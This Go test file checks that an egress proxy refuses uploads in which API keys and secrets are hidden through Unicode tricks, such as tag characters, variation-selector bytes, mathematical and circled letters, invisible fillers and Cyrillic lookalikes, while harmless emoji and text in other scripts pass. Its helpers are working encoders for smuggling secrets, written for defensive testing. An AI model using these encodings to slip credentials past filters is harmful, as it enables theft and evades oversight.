package egress

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

// Issue 20, third round: an outside attacker's encodings that nobody here
// wrote down before, each through a real proxy and gateway to a host the
// bottle holds no credential for. Each attack must get the proxy's 403
// and never reach the upstream; what an agent sends every day in the same
// shapes must reach it.

// refusedAll sends each request to host and fails for each that got out.
func refusedAll(t *testing.T, o *outside, host string, attacks map[string]string) {
	t.Helper()
	for name, raw := range attacks {
		t.Run(name, func(t *testing.T) {
			before := o.up.count()
			if code, answer := o.send(t, host, raw); code != 403 || o.up.count() != before {
				t.Errorf("got out: %d %.200s", code, answer)
			}
		})
	}
}

// passedAll sends each body to host and fails for each that was refused.
func passedAll(t *testing.T, o *outside, host string, benign map[string]string) {
	t.Helper()
	for name, raw := range benign {
		t.Run("benign "+name, func(t *testing.T) {
			before := o.up.count()
			if code, answer := o.send(t, host, raw); code != 200 || o.up.count() != before+1 {
				t.Errorf("refused: %d %.300s", code, answer)
			}
		})
	}
}

func textPost(host, body string) string {
	return post("/upload", host, "text/plain; charset=utf-8", body)
}

// TestOutsideKeyInUnicodeForms: a key in Unicode that reads as the key
// (mathematical and circled letters, superscript digits, lookalikes from
// other scripts), written in characters no one sees (tag characters, as
// "ASCII smuggling" does; bytes as variation selectors after an emoji), or
// with default-ignorable characters of three bytes between its own.
// Emoji, mathematics and text in other scripts still pass.
func TestOutsideKeyInUnicodeForms(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	gh, aws, own := outsideGitHub, outsideAWS, outsideSecret
	between := func(s, sep string) string { return strings.Join(strings.Split(s, ""), sep) }
	refusedAll(t, o, F, map[string]string{
		"tag characters":               textPost(F, "note"+mapRunes(gh, func(r rune) string { return string(r + 0xE0000) })),
		"tag characters of the secret": textPost(F, mapRunes(own, func(r rune) string { return string(r + 0xE0000) })),
		"bytes as variation selectors": textPost(F, "nice 😀"+selectorBytes("GITHUB_TOKEN="+gh)+" right?"),
		"mathematical bold":            textPost(F, "k "+mapRunes(gh, mathBold)),
		"mathematical monospace":       textPost(F, mapRunes(aws, mathMono)),
		"circled":                      textPost(F, mapRunes(aws, circled)),
		"superscript digits":           textPost(F, mapRunes(aws, superscript)),
		"json surrogates of bold":      post("/upload", F, "application/json", `{"k":"`+surrogates(mapRunes(gh, mathBold))+`"}`),
		"hangul filler between":        textPost(F, between(gh, "\u3164")),
		"mongolian separator between":  textPost(F, between(aws, "\u180e")),
		"variation selector between":   textPost(F, between(gh, "\ufe0f")),
		"halfwidth filler between":     textPost(F, between(own, "\uffa0")),
		"inhibit swapping between":     textPost(F, between(gh, "\u206a")),
		"cyrillic lookalikes":          textPost(F, strings.NewReplacer("p", "р", "X", "Х", "c", "с", "a", "а", "e", "е", "o", "о", "B", "В", "H", "Н").Replace(gh)),
	})
	passedAll(t, o, F, map[string]string{
		"emoji":           textPost(F, "Ship it ✔️ 👍🏽 👨‍👩‍👧 ❤️ ☺️ 1️⃣ 2️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 done"),
		"mathematics":     textPost(F, "Let 𝑓(𝑥) = 𝑥² + 2𝑥 + 1 for 𝑥 ∈ ℝ; then ∑ᵢ 𝑎ᵢ = 𝟏𝟎 and ① ② ③ are the steps, H₂O."),
		"other scripts":   textPost(F, "안녕하세요 ㅤ 세계, こんにちは世界、ᠮᠣᠩᠭᠣᠯ ᠬᠡᠯᠡ, Привет, мир! Москва — столица России. Ελληνικά κείμενα."),
		"mixed scripts":   textPost(F, "Используйте API-ключ из настроек (Settings → API keys), см. README.md и config.yaml; τιμή k=3."),
		"fullwidth prose": textPost(F, "（株）テスト、ＡＢＣ１２３のお知らせ：２０２６年１２月７日"),
	})
}

func mapRunes(s string, f func(r rune) string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteString(f(r))
	}
	return b.String()
}

func mathBold(r rune) string {
	switch {
	case 'a' <= r && r <= 'z':
		return string(0x1D41A + r - 'a')
	case 'A' <= r && r <= 'Z':
		return string(0x1D400 + r - 'A')
	case '0' <= r && r <= '9':
		return string(0x1D7CE + r - '0')
	}
	return string(r)
}

func mathMono(r rune) string {
	switch {
	case 'a' <= r && r <= 'z':
		return string(0x1D68A + r - 'a')
	case 'A' <= r && r <= 'Z':
		return string(0x1D670 + r - 'A')
	case '0' <= r && r <= '9':
		return string(0x1D7F6 + r - '0')
	}
	return string(r)
}

func circled(r rune) string {
	switch {
	case 'a' <= r && r <= 'z':
		return string(0x24D0 + r - 'a')
	case 'A' <= r && r <= 'Z':
		return string(0x24B6 + r - 'A')
	case '1' <= r && r <= '9':
		return string(0x2460 + r - '1')
	case r == '0':
		return "\u24ea"
	}
	return string(r)
}

func superscript(r rune) string {
	if '0' <= r && r <= '9' {
		return string([]rune("⁰¹²³⁴⁵⁶⁷⁸⁹")[r-'0'])
	}
	return string(r)
}

// selectorBytes writes each byte of s as a variation selector, as the
// "emoji smuggling" tools do: VS1-16 for 0-15, VS17-256 for the rest.
func selectorBytes(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c < 16 {
			b.WriteRune(rune(0xFE00 + int(c)))
		} else {
			b.WriteRune(rune(0xE0100 + int(c) - 16))
		}
	}
	return b.String()
}

// surrogates writes s as JSON's \u escapes, a pair for each character
// past the first plane.
func surrogates(s string) string {
	var b strings.Builder
	for _, r := range s {
		for _, u := range utf16.Encode([]rune{r}) {
			fmt.Fprintf(&b, `\u%04x`, u)
		}
	}
	return b.String()
}
